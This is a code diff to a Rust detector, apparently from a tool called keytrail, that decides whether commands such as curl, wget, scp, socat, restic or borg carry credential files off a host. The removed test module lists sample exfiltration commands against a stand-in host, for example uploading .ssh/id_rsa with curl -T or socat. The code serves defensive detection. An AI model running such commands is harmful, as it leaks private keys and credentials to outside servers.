@@ -3,8 +3,10 @@
 
 mod login;
 
+use crate::clients::is_temporary;
 use crate::facts::{Facts, ProcessFacts, StepFacts};
 use crate::key_places::{KEYS, is_hidden};
+use keytrail_model::is_multicall;
 use login::is_login_option;
 
 /// Clients of other protocols that send whatever is given to their standard input.
@@ -42,13 +44,28 @@ const COPIERS: &[&str] = &[
     "tftp",
     "smbclient",
     "transfer",
+    "gh",
+    "glab",
+];
+/// They keep what they are given in a repository, which may be a directory, or somebody's server.
+const BACKUPS: &[&str] = &["restic", "rustic", "borg", "kopia", "duplicity"];
+/// How a repository begins that is not a directory.
+const ELSEWHERE: &[&str] = &[
+    "sftp:", "rest:", "s3:", "b2:", "azure:", "gs:", "swift:", "rclone:", "ssh:", "scp:", "rsync:",
+    "ftp:", "ftps:", "webdav:", "webdavs:", "opendal:", "http:", "https:",
 ];
 /// Programs of a shell's pipelines that pass on what they read, as it is or in another form.
 const PACKERS: &[&str] = &[
     "cat", "tac", "head", "tail", "tar", "bsdtar", "zip", "gzip", "pigz", "bzip2", "xz", "zstd",
     "7z", "7za", "cpio", "base64", "base32", "basenc", "uuencode", "xxd", "od", "hexdump",
     "openssl", "gpg", "age", "grep", "egrep", "fgrep", "rg", "sed", "awk", "gawk", "mawk", "cut",
-    "tr", "tee", "sort", "find", "xargs", "jq", "yq", "dd", "paste", "rev", "fold", "split",
+    "tr", "tee", "sort", "find", "xargs", "jq", "yq", "dd", "paste", "rev", "fold", "split", "cp",
+    "mv", "install", "strings", "uniq", "nl", "fmt",
+];
+/// They ask for what their arguments name.
+const ASKERS: &[&str] = &[
+    "curl", "wget", "wget2", "http", "https", "xh", "dig", "kdig", "drill", "host", "nslookup",
+    "getent", "ping",
 ];
 /// Those that give out what they keep to who asks.
 const KEEPERS: &[&str] = &[
@@ -132,6 +149,27 @@ fn bodies(process: &ProcessFacts) -> Vec<&str> {
     bodies
 }
 
+/// Whether curl was told nothing by which it would read this file to log in, or to be configured: then a file that it is to
+/// send leads there, under another name.
+fn has_no_other_use(process: &ProcessFacts, path: &str) -> bool {
+    let file = name(path);
+    let netrc = |a: &String| {
+        a.starts_with("--netrc") || is_short(a) && a.contains('n') && !a.contains(['d', 'F', 'T'])
+    };
+    let configured = |a: &String| {
+        [
+            "--config", "--key", "--cert", "--cookie", "--proxy-", "--pubkey", "--cacert",
+        ]
+        .iter()
+        .any(|option| a.starts_with(option))
+            || is_short(a) && a.contains(['K', 'E', 'b'])
+            || a.contains(file)
+    };
+    let mut arguments = process.argv.iter().skip(1);
+    !matches!(file, ".curlrc" | "_curlrc")
+        && !arguments.any(|a| configured(a) || netrc(a) && file.contains("netrc"))
+}
+
 /// A bundle of options of one letter.
 fn is_short(argument: &str) -> bool {
     argument.starts_with('-') && !argument.starts_with("--") && argument.len() > 1
@@ -141,9 +179,13 @@ fn is_short(argument: &str) -> bool {
 fn sends_file(process: &ProcessFacts, path: &str) -> bool {
     let called = called(process);
     match called {
-        "curl" | "wget" | "wget2" | "http" | "https" | "xh" => bodies(process)
-            .iter()
-            .any(|body| is_file(process, body, path)),
+        "curl" | "wget" | "wget2" | "http" | "https" | "xh" => {
+            let bodies = bodies(process);
+            bodies.iter().any(|body| is_file(process, body, path))
+                || called == "curl"
+                    && bodies.iter().any(|body| *body != "-")
+                    && has_no_other_use(process, path)
+        }
         _ if PIPES.contains(&called) || is_tls_client(process) => {
             // A file that is named is a key or a certificate, but for socat's own addresses.
             let named = |a: &&String| a.ends_with(path) || a.contains(name(path));
@@ -159,6 +201,7 @@ fn sends_file(process: &ProcessFacts, path: &str) -> bool {
             let named = |a: &String| a.ends_with(path) || is_file(process, a, path);
             !path.contains("/.ssh/") && !process.argv.iter().any(named)
         }
+        _ if BACKUPS.contains(&called) => backs_up_keys(process, path),
         _ if COPIERS.contains(&called) => {
             let arguments = &process.argv;
             arguments.iter().enumerate().skip(1).any(|(at, argument)| {
@@ -173,6 +216,27 @@ fn sends_file(process: &ProcessFacts, path: &str) -> bool {
         }
         _ => false,
     }
+}
+
+/// Whether a program of backups was told to keep this file elsewhere, and nothing but places of keys: of a home, or of a list
+/// of what somebody wants to keep, they are a part.
+fn backs_up_keys(process: &ProcessFacts, path: &str) -> bool {
+    let arguments = || process.argv.iter().skip(1);
+    let elsewhere = |argument: &String| {
+        let repository = argument
+            .split_once('=')
+            .map_or(&**argument, |(_, value)| value);
+        ELSEWHERE
+            .iter()
+            .any(|scheme| repository.starts_with(scheme))
+            || repository
+                .split_once(':')
+                .is_some_and(|(host, _)| host.contains('@'))
+    };
+    let mut named = arguments().filter(|a| a.starts_with(['/', '.']) && !elsewhere(a));
+    arguments().any(elsewhere)
+        && arguments().any(|a| is_file(process, a, path))
+        && named.all(|a| is_hidden(a))
 }
 
 fn is_tls_client(process: &ProcessFacts) -> bool {
@@ -217,13 +281,37 @@ pub(crate) fn is_carried(facts: &Facts) -> bool {
     // What a keeper sends on need not be what it keeps: it has to be seen.
     let packs = |step: &StepFacts| {
         let program = name(&step.executable);
-        PACKERS.contains(&program) || facts.grade == "observed" && KEEPERS.contains(&program)
+        // A step does not say which of many programs it was: of those that read a file, most pass it on.
+        PACKERS.contains(&program)
+            || is_multicall(program)
+            || facts.grade == "observed" && KEEPERS.contains(&program)
     };
-    given
+    let kind = facts.credential.as_ref().map_or("", |c| c.kind.as_str());
+    // A copy in a temporary place is not there to be packed; what has no more than a telling name may be anything.
+    let copied = || is_temporary(&first.name) && !kind.is_empty() && !kind.starts_with("generic-");
+    // A key has no business in what a program asks for by name, which is how it goes in pieces.
+    let asked = || last.how == "pipe" && signs_only(kind) && ASKERS.contains(&called(process));
+    (given || asked())
         && first.how == "read"
-        && is_kept(&first.name)
+        && (is_kept(&first.name) || copied())
         && packs(first)
         && between.iter().all(packs)
+}
+
+/// Kinds that never leave who signs with them.
+fn signs_only(kind: &str) -> bool {
+    matches!(
+        kind,
+        "private-key"
+            | "ssh-private-key"
+            | "ssh-host-key"
+            | "tls-private-key"
+            | "gpg-private-key"
+            | "pgp-private-key"
+            | "age-secret-key"
+            | "wireguard-key"
+            | "shadow-hash"
+    )
 }
 
 /// Whether a program that packs was given whole directories, and not the places of keys: a backup of a home.
@@ -258,195 +346,4 @@ fn is_kept(path: &str) -> bool {
 }
 
 #[cfg(test)]
-mod tests {
-    use super::*;
-
-    fn process(executable: &str, argv: &str) -> ProcessFacts {
-        ProcessFacts {
-            executable: executable.into(),
-            argv: argv.split(' ').map(str::to_owned).collect(),
-            cwd: "/root".into(),
-            ..ProcessFacts::default()
-        }
-    }
-
-    #[test]
-    fn files_that_are_sent_and_files_to_log_in_with() {
-        const KEY: &str = "/root/.ssh/id_rsa";
-        for (executable, argv, sent) in [
-            ("/usr/bin/curl", "curl -T .ssh/id_rsa http://x/", true),
-            (
-                "/usr/bin/curl",
-                "curl -sT /root/.ssh/id_rsa http://x/",
-                true,
-            ),
-            ("/usr/bin/curl", "curl -s -d @.ssh/id_rsa http://x/", true),
-            ("/usr/bin/curl", "curl -sd@.ssh/id_rsa http://x/", true),
-            (
-                "/usr/bin/curl",
-                "curl -F f=@.ssh/id_rsa;type=a/b http://x/",
-                true,
-            ),
-            (
-                "/usr/bin/curl",
-                "curl --data-binary @.ssh/id_rsa http://x/",
-                true,
-            ),
-            (
-                "/usr/bin/curl",
-                "curl --upload-file .ssh/id_rsa http://x/",
-                true,
-            ),
-            ("/usr/bin/curl", "curl --key .ssh/id_rsa sftp://x/", false),
-            ("/usr/bin/curl", "curl -K .ssh/id_rsa http://x/", false),
-            ("/usr/bin/curl", "curl -H @.ssh/id_rsa http://x/", false),
-            ("/usr/bin/curl", "curl -d @- http://x/", false),
-            (
-                "/usr/bin/wget",
-                "wget --post-file=.ssh/id_rsa http://x/",
-                true,
-            ),
-            (
-                "/usr/bin/wget",
-                "wget --post-file .ssh/id_rsa http://x/",
-                true,
-            ),
-            (
-                "/usr/bin/wget",
-                "wget --private-key=.ssh/id_rsa https://x/",
-                false,
-            ),
-            ("/usr/bin/scp", "scp .ssh/id_rsa x:", true),
-            ("/usr/bin/scp", "scp -r .ssh x:", true),
-            ("/usr/bin/scp", "scp -i .ssh/id_rsa a x:", false),
-            ("/usr/bin/rsync", "rsync -a /root x:", false),
-            ("/usr/bin/nc.openbsd", "nc x 1", true),
-            ("/usr/bin/ncat", "ncat --ssl-key .ssh/id_rsa -l 1", false),
-            ("/usr/bin/socat", "socat FILE:.ssh/id_rsa TCP:x:1", true),
-            (
-                "/usr/bin/socat",
-                "socat OPENSSL:x:1,key=.ssh/id_rsa -",
-                false,
-            ),
-            ("/usr/bin/ssh", "ssh x cat", false),
-            ("/usr/bin/openssl", "openssl s_client -connect x:1", true),
-            (
-                "/usr/bin/openssl",
-                "openssl s_client -connect x:1 -key .ssh/id_rsa",
-                false,
-            ),
-            (
-                "/usr/bin/openssl",
-                "openssl dgst -sign .ssh/id_rsa f",
-                false,
-            ),
-            ("/usr/bin/gnutls-cli", "gnutls-cli x", true),
-            (
-                "/usr/bin/gnutls-cli",
-                "gnutls-cli --x509keyfile .ssh/id_rsa x",
-                false,
-            ),
-            ("/usr/bin/cat", "cat .ssh/id_rsa", false),
-        ] {
-            assert_eq!(sends_file(&process(executable, argv), KEY), sent, "{argv}");
-        }
-    }
-
-    /// What it is given to log in with, and what to send: the same file.
-    #[test]
-    fn options_of_clients() {
-        const FILE: &str = "/root/.s3cfg";
-        for (argv, sent) in [
-            ("s3cmd -c .s3cfg ls", false),
-            ("s3cmd --config .s3cfg put x s3://b", false),
-            ("s3cmd --config=.s3cfg put x s3://b", false),
-            ("s3cmd put .s3cfg s3://b", true),
-            // Of one program it is a file to log in with, of another none.
-            ("scp -c .s3cfg x:", false),
-            ("s5cmd --credentials-file .s3cfg ls", false),
-            ("s5cmd cp .s3cfg s3://b", true),
-            ("rclone --config .s3cfg ls x:", false),
-            (
-                "rclone copy --drive-service-account-file .s3cfg a x:",
-                false,
-            ),
-            ("rclone copy .s3cfg x:", true),
-            ("rsync -e .s3cfg a x:", false),
-            ("rsync --password-file .s3cfg a x::m", false),
-            ("rsync --files-from .s3cfg a x:", false),
-            ("rsync -a .s3cfg x:", true),
-            ("smbclient -A .s3cfg //x/y", false),
-            ("smbclient --authentication-file .s3cfg //x/y", false),
-            ("sftp -b .s3cfg x", false),
-            ("az login --certificate .s3cfg", false),
-            ("aws --ca-bundle .s3cfg s3 ls", false),
-            ("aws s3 cp .s3cfg s3://b", true),
-            ("gcloud auth login --cred-file .s3cfg", false),
-            ("gsutil cp .s3cfg gs://b", true),
-            ("mc -C .s3cfg ls", false),
-            ("mc cp .s3cfg x/b", true),
-            ("lftp -f .s3cfg", false),
-            ("ncftpput -f .s3cfg x / y", false),
-            ("ncftpput x / .s3cfg", true),
-            ("ssh -i .s3cfg x", false),
-            ("ssh x", true),
-            // Clients of databases and clusters send none of their files.
-            ("mysql --defaults-file .s3cfg", false),
-            ("kubectl --kubeconfig .s3cfg get pods", false),
-            ("git -c .s3cfg push", false),
-        ] {
-            let program = argv.split(' ').next().unwrap_or_default();
-            let process = process(&format!("/usr/bin/{program}"), argv);
-            assert_eq!(sends_file(&process, FILE), sent, "{argv}");
-        }
-    }
-
-    #[test]
-    fn keepers_count_where_it_was_seen() {
-        let step = |how: &str, name: &str, executable: &str| StepFacts {
-            how: how.into(),
-            name: name.into(),
-            executable: executable.into(),
-            ..StepFacts::default()
-        };
-        for (grade, carried) in [("observed", true), ("lineage", false)] {
-            let facts = Facts {
-                kind: "credential_sent".into(),
-                grade: grade.into(),
-                process: Some(process("/usr/bin/curl", "curl -d @- http://x/")),
-                steps: vec![
-                    step(
-                        "read",
-                        "/root/.git-credentials",
-                        "/usr/lib/git-core/git-credential-store",
-                    ),
-                    step("pipe", "pipe:[1]", "/usr/bin/git"),
-                    step("pipe", "pipe:[2]", "/usr/bin/curl"),
-                ],
-                ..Facts::default()
-            };
-            assert_eq!(is_carried(&facts), carried, "{grade}");
-        }
-    }
-
-    #[test]
-    fn what_the_standard_input_is_for() {
-        for (executable, argv, sent) in [
-            ("/usr/bin/curl", "curl -T - http://x/", true),
-            ("/usr/bin/curl", "curl -sT- http://x/", true),
-            ("/usr/bin/curl", "curl -d @- http://x/", true),
-            ("/usr/bin/curl", "curl --data-binary @- http://x/", true),
-            ("/usr/bin/curl", "curl -F f=@- http://x/", true),
-            ("/usr/bin/curl", "curl -K - http://x/", false),
-            ("/usr/bin/curl", "curl -H @- http://x/", false),
-            ("/usr/bin/wget", "wget --post-file=- http://x/", true),
-            ("/usr/bin/wget", "wget -i - http://x/", false),
-            ("/usr/bin/openssl", "openssl s_client -connect x:1", true),
-            ("/usr/bin/openssl", "openssl enc -aes-256-cbc", false),
-            ("/usr/bin/nc.openbsd", "nc x 1", true),
-            ("/usr/bin/rclone", "rclone rcat x:y", true),
-        ] {
-            assert_eq!(sends_input(&process(executable, argv)), sent, "{argv}");
-        }
-    }
-}
+mod tests;
